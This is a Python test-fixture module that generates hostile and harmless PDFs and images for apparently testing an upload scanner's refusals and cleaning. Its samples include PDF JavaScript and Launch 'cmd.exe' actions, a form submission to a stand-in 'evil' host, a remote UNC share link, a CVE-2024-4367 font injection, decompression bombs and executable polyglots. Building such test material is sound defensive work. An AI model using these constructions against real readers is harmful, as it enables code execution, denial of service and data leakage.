"""Hostile and harmless files, made on the spot; none is committed, because scanners of other machines would object."""

import io
import struct
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

MIB = 1 << 20


def blank(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    options.setdefault("object_stream_mode", pikepdf.ObjectStreamMode.disable)
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def opening(action: Dictionary, **options: object) -> bytes:
    pdf = blank()
    pdf.Root.OpenAction = action
    return saved(pdf, **options)


def noted(pdf: pikepdf.Pdf, **note: object) -> bytes:
    """A page with one annotation."""
    made = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 99, 99]), **note))
    pdf.pages[0].obj.Annots = Array([made])
    return saved(pdf)


def written(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF put together by hand, for what no library would write."""
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, size))
    return out + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def swelling(mebibytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([packer.compress(bytes(MIB)) for _ in range(mebibytes)] + [packer.flush()])


def with_stream(content: bytes, filters: object, **entries: object) -> bytes:
    pdf = blank()
    stream = pikepdf.Stream(pdf, content)
    stream.Filter = filters
    for key, value in entries.items():
        stream[f"/{key}"] = value
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def windows_program() -> bytes:
    head = bytearray(b"MZ" + bytes(126))
    struct.pack_into("<I", head, 60, 128)
    return bytes(head) + b"PE\0\0" + bytes(200)


def attached(content: bytes, name: str) -> bytes:
    pdf = blank()
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)
    return saved(pdf, compress_streams=False)


def picture(form: str, size: tuple[int, int] = (400, 300), mode: str = "L", **options: object) -> bytes:
    out = io.BytesIO()
    shade = Image.linear_gradient("L").resize(size).convert(mode)
    shade.save(out, form, **options)
    return out.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((width // 8 + 1) * height), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def named_script() -> bytes:
    pdf = blank()
    names = Array([String("a"), pdf.make_indirect(script())])
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))
    return saved(pdf)


def page_script() -> bytes:
    pdf = blank()
    pdf.pages[0].obj.AA = Dictionary(O=script())
    return saved(pdf)


def field_script() -> bytes:
    pdf = blank()
    field = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]))
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    pdf.pages[0].obj.Annots = Array([field])
    return saved(pdf)


def hidden_name_script() -> bytes:
    opened = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61v#61Script/#4a#53(app.alert(1))>>>>"
    return written({1: opened, 2: ONE_PAGE, 3: PAGE})


def xfa_form() -> bytes:
    pdf = blank()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    return saved(pdf)


def portfolio() -> bytes:
    pdf = blank()
    pdf.Root.Collection = Dictionary(View=Name.D)
    return saved(pdf)


def scripted_font() -> bytes:
    pdf = blank()
    matrix = Array([1, 2, 3, 4, 5, String("0\\); alert('CVE-2024-4367'")])
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.X, FontMatrix=matrix)
    pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F1=font))
    return saved(pdf)


def linked(address: str = "http://evil.example/?x") -> bytes:
    return noted(blank(), Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address)))


def attachment_note() -> bytes:
    pdf = blank()
    file = Dictionary(Type=Name.Filespec, F=String("a.txt"), EF=Dictionary(F=pdf.make_stream(b"x")))
    return noted(pdf, Subtype=Name.FileAttachment, FS=file)


def chained_launch() -> bytes:
    return opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(S=Name.Launch, F=String("cmd.exe"))))


def looks_signed(pdf: pikepdf.Pdf | None = None, **note: object) -> bytes:
    """Shaped like a signed PDF; whether the signature is right is not the intake's question."""
    pdf = pdf or blank()
    signature = pdf.make_indirect(
        Dictionary(
            Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("0"), SubFilter=Name("/ETSI.CAdES.detached")
        )
    )
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("s"), V=signature))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    return noted(pdf, **note) if note else saved(pdf)


def filled_form() -> bytes:
    """A form whose answer is drawn in the field, with a link beside it."""
    pdf = blank()
    look = pdf.make_stream(b"0 0 0 rg 0 0 80 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 80, 20]))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("राम"),
            Rect=Array([100, 700, 180, 720]),
            F=4,
            AP=Dictionary(N=look),
        )
    )
    link = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.URI, URI=String("x"))
        )
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    pdf.pages[0].obj.Annots = Array([field, link])
    return saved(pdf)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "JavaScript at opening": (lambda: opening(script()), "javascript"),
    "JavaScript in an object stream": (
        lambda: opening(script(), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "javascript",
    ),
    "JavaScript among the names": (named_script, "javascript"),
    "JavaScript of a page": (page_script, "javascript"),
    "JavaScript of a field": (field_script, "javascript"),
    "JavaScript under a written-out name": (hidden_name_script, "javascript"),
    "starts a program": (lambda: opening(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "launch"),
    "starts a program after going to a page": (chained_launch, "launch"),
    "sends the form away": (lambda: opening(Dictionary(S=Name.SubmitForm, F=String("http://evil/"))), "launch"),
    "opens a file of another computer": (
        lambda: opening(Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\a.pdf"), D=Array([0, Name.Fit]))),
        "remote",
    ),
    "XFA form": (xfa_form, "xfa"),
    "film": (lambda: noted(blank(), Subtype=Name.RichMedia), "media"),
    "locked with a password": (
        lambda: saved(blank(), encryption=pikepdf.Encryption(user="u", owner="o")),
        "encrypted",
    ),
    "locked for its owner only": (
        lambda: saved(blank(), encryption=pikepdf.Encryption(user="", owner="o")),
        "encrypted",
    ),
    "portfolio": (portfolio, "portfolio"),
    "attached program": (lambda: attached(windows_program(), "bill.exe"), "program"),
    "attached program for Linux, compressed": (
        lambda: attached(b"\x7fELF" + bytes(300), "bill.bin"),
        "program",
    ),
    "program in the gaps": (
        lambda: written({1: CATALOGUE, 2: ONE_PAGE, 3: PAGE}).replace(
            b"%PDF-1.7\n", b"%PDF-1.7\n%" + windows_program() + b"\n"
        ),
        "program",
    ),
    "Flate bomb of 1 GB": (lambda: with_stream(swelling(1024), Name.FlateDecode), "bomb"),
    "Flate bomb in a Flate bomb": (
        lambda: with_stream(zlib.compress(swelling(1024), 9), Array([Name.FlateDecode, Name.FlateDecode])),
        "bomb",
    ),
    "Flate bomb behind hexadecimal": (
        lambda: with_stream(swelling(256).hex().encode() + b">", Array([Name.ASCIIHexDecode, Name.FlateDecode])),
        "bomb",
    ),
    "picture of ten gigapixels": (
        lambda: with_stream(b"x", Name.CCITTFaxDecode, Subtype=Name.Image, Width=100_000, Height=100_000),
        "bomb",
    ),
    "page tree that contains itself": (
        lambda: written({1: CATALOGUE, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
        "damaged",
    ),
    "two thousand million objects": (
        lambda: (
            written({1: CATALOGUE, 2: ONE_PAGE, 3: PAGE})
            .replace(b"/Size 4", b"/Size 2147483647")
            .replace(b"xref\n0 4\n", b"xref\n0 2147483646\n")
        ),
        "damaged",
    ),
    "200,000 nested lists": (
        lambda: written(
            {1: b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 200_000 + b"]" * 200_000 + b">>", 2: ONE_PAGE, 3: PAGE}
        ),
        "damaged",
    ),
    "500 nested lists": (
        lambda: written({1: b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 450 + b"]" * 450 + b">>", 2: ONE_PAGE, 3: PAGE}),
        "bomb",
    ),
    "200,000 pages": (
        lambda: written({1: CATALOGUE, 2: b"<</Type/Pages/Kids[" + b"3 0 R " * 200_000 + b"]/Count 200000>>", 3: PAGE}),
        "pages",
    ),
    "no page": (lambda: written({1: CATALOGUE, 2: b"<</Type/Pages/Kids[]/Count 0>>"}), "pages"),
    "page of 700 metres": (
        lambda: written({1: CATALOGUE, 2: ONE_PAGE, 3: PAGE.replace(b"595 842", b"2000000 2000000")}),
        "page_size",
    ),
    "web page before the PDF": (lambda: b"<html><script>alert(1)</script>\n" + saved(blank()), "markup"),
    "rubbish before the PDF": (lambda: b"rubbish\n" + saved(blank()), "prefixed"),
    "zip archive behind the PDF": (lambda: saved(blank()) + b"PK\x03\x04" + bytes(3000), "appended"),
    "PDF cut off": (lambda: saved(blank())[:200], "truncated"),
    "PDF without its table": (lambda: saved(blank()).replace(b"xref", b"xxxx"), "damaged"),
    "font with a script": (scripted_font, "unsafe_font"),
    "Windows program": (windows_program, "program"),
    "zip archive": (lambda: b"PK\x03\x04" + bytes(500), "archive"),
    "old Word document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "archive"),
    "SVG": (lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "svg"),
    "SVG behind a DOCTYPE": (lambda: b"<!DOCTYPE svg><svg onload='x()'/>", "svg"),
    "web page": (lambda: b"\xef\xbb\xbf  <!DOCTYPE html><p>x", "markup"),
    "XML with entities": (lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "markup"),
    "empty file": (lambda: b"", "empty"),
    "spaces": (lambda: b" \r\n", "empty"),
    "plain text": (lambda: b"To the Superintendent of Police", "type"),
    "GIF": (lambda: picture("GIF"), "type"),
    "PNG bomb of 900 megapixels": (lambda: png_bomb(30_000, 30_000), "bomb"),
    "PNG just over the limit": (lambda: png_bomb(10_001, 10_000), "bomb"),
    "JPEG cut off": (lambda: picture("JPEG", (2000, 2000))[:9000], "truncated"),
    "JPEG with a zip archive": (lambda: picture("JPEG") + b"PK\x03\x04" + bytes(99), "appended"),
    "JPEG with a web page": (lambda: picture("JPEG") + b"<script>alert(1)</script>", "appended"),
    "PNG with a program": (lambda: picture("PNG") + windows_program(), "program"),
    "PNG cut off": (lambda: picture("PNG", (900, 900))[:400], "truncated"),
    "TIFF cut off": (lambda: picture("TIFF", (900, 900))[:400], "truncated"),
    "TIFF that is none": (lambda: b"II*\0" + bytes(100), "damaged"),
}
"""Name → maker and the code of the refusal."""

CLEANED: dict[str, tuple[Callable[[], bytes], str]] = {
    "link to the web": (linked, "links"),
    "attached text": (lambda: attached("नमस्ते".encode(), "a.txt"), "attachments"),
    "attachment pinned on the page": (attachment_note, "attachments"),
    "filled form with a link": (filled_form, "links"),
}
"""Name → maker and what the clean copy must say that it lost."""


def all_refused() -> Iterator[tuple[str, bytes, str]]:
    for name, (make, code) in REFUSED.items():
        yield name, make(), code
